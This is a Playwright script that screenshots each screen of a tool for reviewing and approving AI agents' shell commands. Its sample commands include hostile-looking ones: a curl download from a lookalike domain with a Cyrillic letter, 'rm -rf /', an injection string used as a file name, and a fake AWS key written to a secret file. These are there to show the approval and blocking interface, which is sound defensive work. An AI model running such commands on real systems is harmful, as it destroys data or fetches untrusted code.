// Makes a picture of every screen, at both sizes and in both themes, for whoever
// looks at the pages: `ALL=1 ui/shots`. Nothing is compared.
import { afternoon, DESKTOP, OUT, rules, shoot } from './camera';
import { asked, decision, detail, put, quiet, reaches, row } from './tests/approvals';
import { test, expect, type Agent } from './tests/harness';
import { HOSTILE, owner } from './tests/runs';

test.setTimeout(300_000);
test.beforeEach(({ page }) => page.setViewportSize(DESKTOP));

const EDIT = "sed -i 's/legacy.toml/app.toml/' README.md && mv config/legacy.toml config/app.toml";

async function waiting(coder: Agent, writer: Agent) {
  const edit = await asked(coder, EDIT, { description: 'Rename the old config and update the README' });
  const get = await asked(writer, 'curl -fsSLO https://get.ex\u0430mple.dev/table.tgz', { description: 'Show the table', review: 'before' });
  const clean = await asked(coder, 'rm -rf build/', { description: 'Clean up', review: 'before' });
  return { edit, get, clean };
}

test('inbox', async ({ page, server }) => {
  await page.goto(`${server.address}/inbox`);
  await expect(page.getByText('No agent is connected.')).toBeVisible();
  await shoot(page, 'inbox-no-agent');
  const { coder, writer } = await afternoon(server, page);
  await page.goto(`${server.address}/inbox`);
  await shoot(page, 'inbox-empty');
  const { edit, get, clean } = await waiting(coder, writer);
  for (let n = 0; n < 3; n++) await coder.run('touch same', { review: 'before', wait_ms: 0 });
  await page.goto(`${server.address}/inbox`);
  await expect(detail(page)).toBeVisible();
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto(`${server.address}/inbox`);
  await expect(row(page, 'curl')).toBeVisible();
  await shoot(page, 'inbox-list', ['-phone', '-phone-dark']);

  await page.goto(`${server.address}/inbox/${edit.approval_id}`);
  await expect(detail(page).getByText('tried in a copy')).toBeVisible();
  await shoot(page, 'inbox-effect');
  await page.locator('.body').first().evaluate((body) => body.scrollTo(0, 9999));
  await shoot(page, 'inbox-effect-end');
  await quiet(page);
  await page.keyboard.press('a');
  await expect(decision(page, /press Enter/)).toBeVisible();
  await shoot(page, 'inbox-armed', ['']);
  await page.keyboard.press('a');
  await quiet(page);
  await page.keyboard.press('a');
  await shoot(page, 'inbox-armed', ['-dark']);

  await page.goto(`${server.address}/inbox/${get.approval_id}`);
  await expect(decision(page, 'Approve anyway…')).toBeEnabled();
  await shoot(page, 'inbox-high');
  await quiet(page);
  await decision(page, 'Approve anyway…').click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await page.waitForTimeout(1200);
  await shoot(page, 'inbox-confirm');

  await page.goto(`${server.address}/inbox/${clean.approval_id}`);
  await expect(decision(page, /Approve/)).toBeEnabled();
  await shoot(page, 'inbox-before');
  await quiet(page);
  await page.keyboard.press('w');
  await expect(page.getByRole('dialog').getByRole('radio').first()).toBeVisible();
  await shoot(page, 'inbox-always');
  await page.keyboard.press('Escape');
  await quiet(page);
  await page.keyboard.press('r');
  await page.keyboard.type('Keep build/reports, delete only build/cache.');
  await shoot(page, 'inbox-reject');
  await page.keyboard.press('Escape');
  await quiet(page);
  await page.keyboard.press('e');
  await page.getByRole('textbox', { name: 'The command that would run instead' }).fill('rm -rf build/cache');
  await page.waitForTimeout(800);
  await shoot(page, 'inbox-edit');

  await page.goto(`${server.address}/a/${edit.approval_id}`);
  await expect(detail(page).getByText('tried in a copy')).toBeVisible();
  await shoot(page, 'a');
  await page.goto(`${server.address}/inbox/${edit.approval_id}`);
  await expect(decision(page, 'Apply these changes')).toBeEnabled();
  await quiet(page);
  await decision(page, 'Apply these changes').click();
  await reaches(coder, edit.command_id, 'succeeded');
  await expect(detail(page).getByText('Applied by you').or(detail(page).getByText('Approved by you')).first()).toBeVisible();
  await shoot(page, 'inbox-decided');
  await page.goto(`${server.address}/a/${edit.approval_id}`);
  await expect(detail(page)).toBeVisible();
  await shoot(page, 'a-decided');
});

test('inbox, hostile and long', async ({ page, server }) => {
  const coder = server.agent('coder');
  const lines = Array.from({ length: 299 }, (_, at) => `touch f${at}`);
  const long = await asked(coder, [...lines, 'curl https://x.test -o f'].join('\n'), { review: 'before' });
  const odd = await asked(coder, `touch "${HOSTILE}"`, { description: HOSTILE, review: 'before' });
  put(server, 'a.txt', 'one\ntwo\nthree\n');
  for (let n = 0; n < 12; n++) put(server, `old/file-${n}.txt`, 'x\n');
  put(server, 'binary.bin', '\0\u0001\u0002');
  const many = await asked(
    coder,
    "rm -r old; sed -i s/two/2/ a.txt; seq 1 400 > long.txt; mkdir -p deep/er; echo key=AKIAIOSFODNN7EXAMPLE > deep/er/secret.env; mv binary.bin moved.bin; chmod 600 moved.bin; printf 'a\\0b' > new.bin; ln -s a.txt link; curl -s https://registry.npmjs.org/x",
    { description: 'Tidy up' },
  );
  await page.goto(`${server.address}/inbox/${long.approval_id}`);
  await expect(page.getByText('Scroll to the end of the command')).toBeVisible();
  await shoot(page, 'inbox-long');
  await page.goto(`${server.address}/inbox/${odd.approval_id}`);
  await expect(detail(page).locator('pre').first()).toBeVisible();
  await shoot(page, 'inbox-hostile');
  await page.goto(`${server.address}/inbox/${many.approval_id}`);
  await expect(decision(page, /Apply/)).toBeEnabled();
  await shoot(page, 'inbox-many');
  for (const [n, y] of [[1, 700], [2, 1400], [3, 99_999]] as const) {
    await page.locator('.body').first().evaluate((body, y) => body.scrollTo(0, y), y);
    await shoot(page, `inbox-many-${n}`, ['', '-phone']);
  }
  await page.getByRole('region', { name: 'Waiting approvals' }).getByRole('link').first().click();
  await page.getByRole('region', { name: 'Waiting approvals' }).getByRole('link').last().click({ modifiers: ['Shift'] });
  await shoot(page, 'inbox-several', ['', '-dark']);
});

test('runs', async ({ page, server }) => {
  const { coder } = await afternoon(server, page);
  const waits = await asked(coder, 'touch made', { review: 'before' });
  const going = await coder.run('for i in $(seq 1 600); do echo line $i; sleep 0.5; done', { background: true, description: 'Count slowly' });
  await coder.run(`echo "${HOSTILE}"`, { description: HOSTILE });
  await page.goto(`${server.address}/runs`);
  await expect(page.getByRole('row').nth(5)).toBeVisible();
  await shoot(page, 'runs');
  await page.goto(`${server.address}/runs?q=${encodeURIComponent('agent:coder statis:failed since:24h')}`);
  await shoot(page, 'runs-filter');
  await page.goto(`${server.address}/runs?q=agent:coder%20status:failed`);
  await page.getByRole('button', { name: 'Save view…' }).click();
  await page.getByLabel('Name').fill('My failures');
  await shoot(page, 'runs-save-view');
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await page.getByRole('button', { name: 'View options' }).click();
  await shoot(page, 'runs-options');
  await page.keyboard.press('Escape');
  await page.goto(`${server.address}/runs?q=nothing-like-this`);
  await expect(page.getByText('No runs match.')).toBeVisible();
  await shoot(page, 'runs-none');
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto(`${server.address}/runs`);
  const filters = page.getByRole('button', { name: /Filter/ });
  if (await filters.count()) await filters.first().click();
  await shoot(page, 'runs-sheet', ['-phone', '-phone-dark']);

  await page.goto(`${server.address}/runs/${going.command_id}/output`);
  await expect(page.getByText('line 3').first()).toBeVisible();
  await shoot(page, 'run-running');
  await page.getByRole('button', { name: 'Stop' }).first().click();
  await shoot(page, 'run-stop');
  await page.keyboard.press('Escape');
  const found = (await coder.run('find . -name "*.c" -exec cat {} +; ls missing; printf "\\033[31mred\\033[0m \\033[1;32mgreen\\033[0m\\n"', { description: 'Read all the code' })).command_id;
  for (const tab of ['output', 'explain', 'changes', 'audit']) {
    await page.goto(`${server.address}/runs/${found}/${tab}`);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.waitForTimeout(500);
    await shoot(page, `run-${tab}`);
  }
  const big = (await coder.run('seq 1 60000', { description: 'Count' })).command_id;
  await page.goto(`${server.address}/runs/${big}/output#L30000-L30004`);
  await expect(page.getByText('30000').first()).toBeVisible();
  await shoot(page, 'run-lines');
  await page.getByRole('button', { name: 'As the agent saw it' }).or(page.getByRole('radio', { name: 'As the agent saw it' })).or(page.getByText('As the agent saw it')).first().click();
  await page.waitForTimeout(500);
  await shoot(page, 'run-agent');
  const blocked = await coder.run('ls && rm -rf /', { description: 'Clean up' });
  await page.goto(`${server.address}/runs/${blocked.command_id}`);
  await shoot(page, 'run-blocked');
  await page.goto(`${server.address}/runs/${waits.command_id}`);
  await shoot(page, 'run-waiting');
  const edit = await asked(coder, EDIT);
  const { fingerprint } = await owner(page, 'GET', `/approvals/${edit.approval_id}`);
  await owner(page, 'POST', `/approvals/${edit.approval_id}/decision`, { kind: 'apply_effect', fingerprint });
  await reaches(coder, edit.command_id, 'succeeded');
  await page.goto(`${server.address}/runs/${edit.command_id}/changes`);
  await expect(page.getByText('README.md').first()).toBeVisible();
  await page.waitForTimeout(500);
  await shoot(page, 'run-changed');
  await page.getByRole('button', { name: /Revert|Undo/ }).first().click();
  await shoot(page, 'run-revert');
  await page.keyboard.press('Escape');
  await page.goto(`${server.address}/runs/${edit.command_id}/audit`);
  await page.waitForTimeout(500);
  await shoot(page, 'run-audit-decided');
  await page.goto(`${server.address}/runs/r_nothing`);
  await shoot(page, 'run-missing');
  await coder.ask('POST', `/commands/${going.command_id}/stop`, {});
});

test('terminals', async ({ page, server }) => {
  const coder = server.agent('coder');
  await page.goto(`${server.address}/terminals`);
  await expect(page.getByText('No terminal is open.')).toBeVisible();
  await shoot(page, 'terminals-none');
  await page.getByRole('link', { name: 'Open one yourself' }).click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await shoot(page, 'terminal-new');
  await page.keyboard.press('Escape');
  const body = { name: 'dev-server', description: 'Start the dev server so I can check the page', command: 'bash' };
  const id = (await coder.ask('POST', '/terminals', body)).body.terminal_id as string;
  await coder.ask('POST', '/terminals', { name: 'repl', description: 'Try things', command: 'python3 -i' });
  const over = (await coder.ask('POST', '/terminals', { name: 'old', description: 'Done', command: 'cat' })).body.terminal_id;
  await coder.ask('DELETE', `/terminals/${over}`);
  for (const command of ['ls -la /', 'echo beta; sleep 4; echo gamma', 'seq 1 40']) {
    await coder.ask('POST', `/terminals/${id}/exec`, { command });
  }
  await page.goto(`${server.address}/terminals/${id}`);
  await expect(page.locator('.xterm-rows')).toContainText('40');
  await shoot(page, 'terminal-watch');
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto(`${server.address}/terminals`);
  await expect(page.getByRole('link', { name: /repl/ })).toBeVisible();
  await shoot(page, 'terminals', ['-phone', '-phone-dark']);
  await page.goto(`${server.address}/terminals/${id}`);
  await page.getByRole('button', { name: 'Take over' }).click();
  await expect(page.getByRole('button', { name: 'Hand back…' })).toBeVisible();
  await page.waitForTimeout(500);
  await shoot(page, 'terminal-taken');
  await page.getByRole('button', { name: 'Hand back…' }).click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await shoot(page, 'terminal-back');
  await page.getByRole('button', { name: 'Hand back', exact: true }).click();
  await page.getByRole('button', { name: 'Plain text' }).click();
  await shoot(page, 'terminal-plain');
  await page.getByRole('button', { name: 'Live view' }).click();
  await page.getByRole('button', { name: 'Close…' }).click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await shoot(page, 'terminal-close');
  await page.keyboard.press('Escape');
  await page.goto(`${server.address}/terminals/${id}/replay?t=5`);
  await expect(page.locator('[data-time]')).toBeVisible();
  await page.waitForTimeout(800);
  await shoot(page, 'replay');
  await page.keyboard.press('f');
  await page.keyboard.type('gamma');
  await page.waitForTimeout(500);
  await shoot(page, 'replay-find');
});

test('sandboxes and policies', async ({ page, server }) => {
  const { coder } = await afternoon(server, page);
  await page.goto(`${server.address}/sandboxes`);
  await expect(page.getByRole('row').nth(1)).toBeVisible();
  await shoot(page, 'sandboxes');
  await page.goto(`${server.address}/sandboxes/new`);
  await page.getByRole('textbox', { name: /^Name/ }).fill('webshop');
  await page.getByRole('textbox', { name: 'Directory' }).fill(`${server.base}/src`);
  await expect(page.getByText('in 2 files')).toBeVisible();
  await shoot(page, 'sandbox');
  for (const [n, y] of [[1, 700], [2, 1400], [3, 99_999]] as const) {
    await page.locator('main').evaluate((main, y) => main.scrollTo(0, y), y);
    await shoot(page, `sandbox-${n}`, ['', '-phone']);
  }
  await page.locator('main').evaluate((main) => main.scrollTo(0, 0));
  await page.getByRole('button', { name: 'Choose…' }).click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await page.waitForTimeout(400);
  await shoot(page, 'sandbox-choose');
  await page.keyboard.press('Escape');
  await page.goto(`${server.address}/sandboxes/default`);
  await page.waitForTimeout(800);
  await shoot(page, 'sandbox-one');

  await page.goto(`${server.address}/policies`);
  await page.waitForTimeout(500);
  await shoot(page, 'policies-none');
  await rules(page);
  const test = encodeURIComponent('git status && rm -rf build/');
  await page.goto(`${server.address}/policies?test=${test}`);
  await expect(page.getByRole('complementary').getByRole('status')).toBeVisible();
  await shoot(page, 'policies');
  await page.getByRole('button', { name: 'Add rule' }).click();
  await shoot(page, 'policies-rule');
  await page.goto(`${server.address}/policies?view=text&test=${test}`);
  const draft = page.getByLabel('Rules in a draft');
  await expect(draft).toBeVisible();
  await shoot(page, 'policies-text');
  await draft.fill('[[rule]]\nauto = "npm test"\nmatches = ["npm tests"]\n');
  await expect(page.getByText('the rule does not match its example `npm tests`')).toBeVisible();
  await shoot(page, 'policies-mistake');
  await draft.fill('[[rule]]\nname = "no-grep"\nreject = "grep *"\n');
  const review = page.getByRole('button', { name: 'Review and save…' });
  await expect(review).toBeEnabled();
  await review.click();
  await expect(page.getByRole('dialog').getByRole('button', { name: 'Save' })).toBeEnabled();
  await shoot(page, 'policies-compare');
  await page.keyboard.press('Escape');
  await page.goto(`${server.address}/policies?view=history`);
  await page.waitForTimeout(500);
  await shoot(page, 'policies-history');
  await coder.run('true');
});

test('people and settings', async ({ page, server }) => {
  const { coder } = await afternoon(server, page);
  server.cli('people', 'add', 'maria', '--role', 'approver', '--sandbox', 'default');
  const going = await coder.run('sleep 300', { background: true });
  await page.goto(`${server.address}/people`);
  await expect(page.getByText('maria').first()).toBeVisible();
  await shoot(page, 'people');
  await page.getByRole('button', { name: 'Connect an agent' }).click();
  const dialog = page.getByRole('dialog', { name: 'Connect an agent' });
  await dialog.getByLabel('Name').fill('tester');
  await shoot(page, 'connect');
  await page.keyboard.press('Enter');
  await expect(dialog.getByText('You will not see it again.')).toBeVisible();
  await shoot(page, 'connect-token');
  await dialog.getByRole('button', { name: 'Done' }).click();
  await page.getByRole('button', { name: 'Invite a person' }).click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await shoot(page, 'invite');
  await page.keyboard.press('Escape');
  await page.goto(`${server.address}/people/coder`);
  await page.waitForTimeout(500);
  await shoot(page, 'person');
  await page.getByRole('button', { name: /^Pause/ }).last().click();
  await shoot(page, 'pause-one');
  await page.keyboard.press('Escape');
  for (const section of ['general', 'notifications', 'retention', 'health', 'about']) {
    await page.goto(`${server.address}/settings/${section}`);
    await page.waitForTimeout(800);
    await shoot(page, `settings-${section}`);
  }
  await page.goto(`${server.address}/settings/health`);
  await page.waitForTimeout(800);
  await page.locator('main').evaluate((main) => main.scrollTo(0, 9999));
  await shoot(page, 'settings-health-end', ['', '-phone']);
  await coder.ask('POST', `/commands/${going.command_id}/stop`, {});
});

test('frame', async ({ page, server }) => {
  await page.goto(`${server.address}/welcome`);
  await page.waitForTimeout(500);
  await shoot(page, 'welcome');
  await page.getByLabel('Name').last().fill('coder');
  await page.getByRole('button', { name: 'Create a token' }).click();
  await page.getByRole('button', { name: 'Run' }).click();
  await expect(page.getByRole('textbox', { name: 'Command' })).toHaveValue('touch hello.txt');
  await page.getByRole('button', { name: 'Run' }).click();
  await expect(page.getByText('waits for you')).toBeVisible();
  await shoot(page, 'welcome-end');
  await page.locator('main').evaluate((main) => main.scrollTo(0, 9999));
  await shoot(page, 'welcome-end-scrolled', ['', '-phone']);

  const { coder } = await afternoon(server, page).catch(() => ({ coder: server.agent('other') }));
  await page.goto(`${server.address}/inbox`);
  await page.keyboard.press('Control+k');
  await expect(page.getByRole('dialog').getByRole('option').first()).toBeVisible();
  await shoot(page, 'palette');
  await page.keyboard.type('read');
  await page.waitForTimeout(500);
  await shoot(page, 'palette-found', ['', '-dark']);
  await page.keyboard.press('Escape');
  await page.keyboard.press('?');
  await expect(page.getByRole('dialog')).toBeVisible();
  await shoot(page, 'keyboard');
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'Account' }).click();
  await shoot(page, 'account');
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'Terminal config' }).click();
  await expect(page.getByRole('dialog').getByRole('listitem').first()).toBeVisible();
  await shoot(page, 'config');
  await page.keyboard.press('Enter');
  await shoot(page, 'config-empty', ['', '-phone']);
  await page.keyboard.press('Escape');

  const going = await coder.run('sleep 300', { background: true });
  await page.getByRole('button', { name: 'Pause all' }).click();
  await expect(page.getByText(/Everything is paused/)).toBeVisible();
  await coder.run('echo held', { wait_ms: 0 });
  await page.waitForTimeout(400);
  await shoot(page, 'paused');
  await page.getByRole('button', { name: 'Resume' }).click();
  await coder.ask('POST', `/commands/${going.command_id}/stop`, {});
  await page.setViewportSize({ width: 390, height: 844 });
  await page.getByRole('button', { name: 'More', exact: true }).click();
  await shoot(page, 'more', ['-phone', '-phone-dark']);
  await page.setViewportSize(DESKTOP);
  await page.goto(`${server.address}/inbox`);
  await expect(page.getByText('Connected', { exact: true })).toBeVisible();
  await server.kill();
  await page.waitForTimeout(11_500);
  await shoot(page, 'offline');
  await server.start();
  await page.goto('about:blank');
  await page.context().clearCookies();
  await page.goto(`${server.address}/inbox`);
  await expect(page.getByRole('button', { name: 'Sign in' })).toBeVisible();
  await shoot(page, 'signin');
  await page.getByRole('textbox').fill('wrong');
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.waitForTimeout(1500);
  await shoot(page, 'signin-wrong');
});

test('in between', async ({ page, server }) => {
  const { coder, writer } = await afternoon(server, page);
  await waiting(coder, writer);
  for (const [name, width, height] of [['tablet', 820, 1180], ['wide', 1920, 1080], ['small', 320, 640]] as const) {
    for (const path of ['inbox', 'runs', 'policies']) {
      await page.setViewportSize({ width, height });
      await page.goto(`${server.address}/${path}`);
      await page.waitForTimeout(800);
      await page.screenshot({ path: `${OUT}/${name}-${path}.png` });
    }
  }
});
